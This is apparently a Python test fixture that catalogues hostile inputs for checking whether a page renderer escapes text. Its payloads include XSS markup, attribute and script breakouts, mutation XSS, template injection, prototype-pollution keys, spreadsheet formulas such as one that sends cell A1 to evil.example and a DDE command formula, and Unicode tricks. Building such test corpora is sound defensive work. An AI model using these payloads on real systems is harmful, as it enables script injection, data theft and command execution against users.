"""Texts that would run, send or break something if they were taken for markup.

What runs sets ``__ran`` (:data:`SENTINELS` looks for it and its cousins); what sends
asks ``evil.example``, a name that no resolver knows.
"""

import re
from pathlib import Path

RUN = "window.__ran=1"
EVIL = "https://evil.example"

MARKUP = {
    "script": f"<script>{RUN}</script>",
    "breakout": f"</script><script>{RUN}</script>",
    "breakout in capitals": f"</SCRIPT ><ScRiPt\n>{RUN}</sCrIpT\t>",
    "script of another": f'<script src="{EVIL}/s.js"></script>',
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script without an end": f"<script>{RUN}//",
    "module": f'<script type="module">import "{EVIL}/m.js";{RUN}</script>',
    "import map": f'<script type="importmap">{{"imports":{{"x":"{EVIL}/x"}}}}</script>',
    "speculation": f'<script type="speculationrules">{{"prefetch":[{{"urls":["{EVIL}"]}}]}}',
    "image": f'<img src=x onerror="{RUN}">',
    "image with slashes": f"<img/src=x/onerror={RUN}>",
    "image set": f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x">',
    "beacon": f'<img src="{EVIL}/x.png">',
    "picture": f'<picture><source srcset="{EVIL}/p.png"><img></picture>',
    "link": f'<a href="javascript:{RUN}">x</a><img src=x onerror="__ran=1">',
    "link with a ping": f'<a href="{EVIL}" ping="{EVIL}/ping" target="_blank">x</a>',
    "sheet": f'<link rel="stylesheet" href="{EVIL}/l.css">',
    "prefetch": f'<link rel="prefetch" href="{EVIL}/p"><link rel="dns-prefetch" href="//evil.example">',
    "manifest": f'<link rel="manifest" href="{EVIL}/m"><link rel="icon" href="{EVIL}/i">',
    "title": f"</title><script>{RUN}</script>",
    "text area": f"</textarea><script>{RUN}</script>",
    "option": f'</option></select><img src=x onerror="{RUN}">',
    "no script": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "plain text": "<plaintext><xmp><listing>",
    "template element": f"<template><script>{RUN}</script></template>",
    "shadow root": f'<div><template shadowrootmode="open"><img src=x onerror={RUN}>',
    "svg": f'<svg onload="{RUN}"><use href="data:image/svg+xml,x#x"/></svg>',
    "svg script": f'<svg><script href="data:text/javascript,{RUN}" /></svg>',
    "svg animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    "svg foreign": f'<svg><foreignObject><iframe onload="{RUN}"></iframe></foreignObject>',
    "svg set": f'<svg><a><set attributeName="href" to="javascript:{RUN}"/><text>x</text></a>',
    "mathematics": f'<math><maction actiontype="statusline" href="javascript:{RUN}">x</maction></math>',
    "frame": f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
    "frame of another": f'<iframe src="{EVIL}/frame"></iframe>',
    "frame that runs": f'<iframe src="javascript:parent.{RUN[7:]}"></iframe>',
    "object": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "embed": f'<embed src="{EVIL}/e.swf" onload="{RUN}">',
    "video": f'<video src="{EVIL}/v" poster="{EVIL}/p" onerror="{RUN}"><track src="{EVIL}/t">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "base": f'<base href="{EVIL}/"><form action="//evil.example">',
    "form": f'<form action="{EVIL}"><input name=x autofocus onfocus="{RUN}"><button>x',
    "form of a button": f'<button formaction="javascript:{RUN}" form="x">x</button>',
    "details": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "focus": f"<b tabindex=0 autofocus onfocus={RUN} id=x>x</b>",
    "pointer": f'<b onpointerover="{RUN}" onmouseenter="{RUN}" style="position:fixed;inset:0">x</b>',
    "animation": f'<style>@keyframes x{{}}</style><b style="animation:x 1s" onanimationstart="{RUN}">x</b>',
    "marquee": f"<marquee onstart={RUN}>x</marquee><body onpageshow={RUN}>",
    "dialog": f'<dialog open onclose="{RUN}"><button popovertarget=x onbeforetoggle="{RUN}">x</button>',
    "comment": f"<!--<script>-->{RUN}",
    "comment end": f"--!><img src=x onerror={RUN}><!--",
    "data section": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "instruction": f'<?xml-stylesheet href="{EVIL}/x.xsl"?><!DOCTYPE x [<!ENTITY e "x">]>',
}
"""Elements, of HTML and of what stands in it."""

ATTRIBUTES = {
    "attribute": f'"><img src=x onerror="{RUN}">',
    "attribute in single quotes": f"'><img src=x onerror='{RUN}'>",
    "attribute without quotes": f" x onmouseover={RUN} tabindex=0 autofocus onfocus={RUN} ",
    "attribute in back quotes": f"`><img src=x onerror=`{RUN}`>",
    "handler": f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus tabindex="0" x="',
    "handler in single quotes": f"' onclick='{RUN}' x='",
    "style": f"red;}}</style><script>{RUN}</script><style>",
    "style import": f"</style><style>@import url({EVIL}/c.css)</style>",
    "style value": f"#fff;background:url({EVIL}/b.png);x:expression({RUN})",
    "style escape": f"\\3c/style\\3e;}}*{{background:url('{EVIL}/s')}}/*",
    "style function": f"url({EVIL}/u) image-set('{EVIL}/i' 1x) attr(x) var(--colour)",
}
"""Ways out of an attribute, and out of a style."""

SCRIPTS = {
    "single quote": f"'-{RUN}-'",
    "call end": f"');{RUN};//",
    "string end": f'";{RUN};//',
    "string end escaped": f'\\";{RUN};//',
    "object end": f'"}}]}};{RUN};({{"x":[{{"y":"',
    "template": f"{{{{7*7}}}}{{% for x in range(9) %}}${{{RUN}}}`",
    "template of Python": "{{''.__class__.__mro__[1].__subclasses__()}}{#{{config}}",
    "template of a client": f"{{{{constructor.constructor('{RUN}')()}}}}[[${{{RUN}}}]]<%={RUN}%>",
    "line ends": f"a\u2028{RUN}\u2029b",
    "escape": f"\\u003cscript\\u003e{RUN}",
    "escape of bytes": f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    "entity": f"&lt;script&gt;{RUN}&lt;/script&gt;&#x3c;b&#x3e;",
    "entity without an end": f"&ltimg src=x onerror&equals;{RUN}&gt&NewLine;&colon;",
    "entity of quotes": f"&quot;&gt;&lt;img src=x onerror=&apos;{RUN}&apos;&#62;",
    "address": f"javascript:{RUN}",
    "address with gaps": f"java\tscript\n:\r{RUN}",
    "address of data": f"data:text/html,<script>{RUN}</script>",
    "address of data in base64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
    "address of another": f"{EVIL}/?x=1#y",
    "address of the page": "#person=0&to=1",
    "vbscript": f"vbscript:{RUN}",
    "boxes": "<script>alert(1);confirm(2);prompt(3);print()</script>",
    "document": "<script>document.title='ran';document.body.dataset.ran=1</script>",
    "console": "<script>console.log('ran')</script><img src=x onerror=console.log('ran')>",
}
"""Ways out of a string, a template or an address."""

MUTATIONS = {
    "mutation of a style": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "mutation of a title": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "mutation of a form": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror={RUN} src=x>",
    "mutation of a comment": f"<svg><style><!--</style><img src=x onerror={RUN}>-->",
    "clobbering": '<form id="agencygraph"><input name="graphs"><a id="vis"><img name="body">',
    "clobbering of data": '<div id="data-graph" data-graph="graph" data-part="live">{}</div>',
    "UTF-7": "+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-",
    "overlong": "\xc0\xbcscript\xc0\xbewindow.__ran=1\xc0\xbc/script\xc0\xbe",
    "full width": "\uff1cscript\uff1ewindow.__ran=1\uff1c/script\uff1e",
    "half width": "\ufe64img src=x onerror=window.__ran=1\ufe65\u2039script\u203a",
    "shift": "\x1b$B<img src=x onerror=window.__ran=1>\x1b(J",
}
"""What another parser, or the same a second time, would make of it."""

WORDS = {
    "prototype": "__proto__",
    "constructor": "constructor",
    "prototype of the constructor": "constructor.prototype.polluted",
    "prototype in JSON": '{"__proto__":{"polluted":1},"toString":null}',
    "method": "toString",
    "length": "length",
    "then": "then",
    "data of the page": "data-graph",
    "engine": "engine",
    "cascade": "--colour",
    "word": "{n} {who} {name}",
    "pattern": "$& $1 $` $' .* [",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "formula of a command": "=cmd|' /C calc'!A0",
    "formula after a sign": "+1+cmd|x",
    "formula after another": "@SUM(1+1)*-2",
    "formula after a tab": "\t=1+1",
    "full-width formula": "\uff1d1+1",
    "quotes of a table": 'a","b"\r\n"c;d\te',
    "number": "1e5",
    "missing": "NaN",
    "nothing": "null",
}
"""Names that mean something to a program: a key, a formula, a missing value."""

LETTERS = {
    "direction": "\u202eevil\u202c <b>x</b>",
    "direction unclosed": "\u202e\u2066\u2067\u2068<b>x",
    "right to left": "\u05e9\u05dc\u05d5\u05dd <b>\u05e2\u05d5\u05dc\u05dd</b> \u0645\u0631\u062d\u0628\u0627",
    "marks": "Z" + "\u0351\u0343\u0310" * 60 + "<b>",
    "nothing to see": "\u200b\u200d\ufeff\u00ad<b>\u2060",
    "nul": "a\0<b>b\0",
    "control": "a\x01\x08\x0b\x0c\x1f\x7f\x85<b>",
    "half a letter": "a\ud800<b>\udfff",
    "beyond the plane": "\U0001f9d1\u200d\U0001f692 <b>\U000e0001\U0010ffff",
    "not a letter": "\ufffe\uffff\ufdd0<b>",
    "long": "<b>" + "x" * 10_000,
    "long without a gap": "W" * 3_000 + "<i>",
}
"""Letters that turn, hide or break what stands around them."""

PAYLOADS = MARKUP | ATTRIBUTES | SCRIPTS | MUTATIONS | WORDS | LETTERS

SENTINELS = (Path(__file__).parent / "calm.js").read_text("utf-8")


UNSEEN = re.compile("[\0-\x08\x0b\x0e-\x1b\x7f-\x84\x86-\x9f\u2068\u2069\ufffd]")
"""What a browser leaves out or marks as wrong, and what a page isolates names with."""


def tokens(text):
    """The text as one that reads a page would compare it: gaps as one, none unseen."""
    whole = re.sub("[\ud800-\udfff]", "?", text)
    return " ".join(UNSEEN.sub("", whole).split())
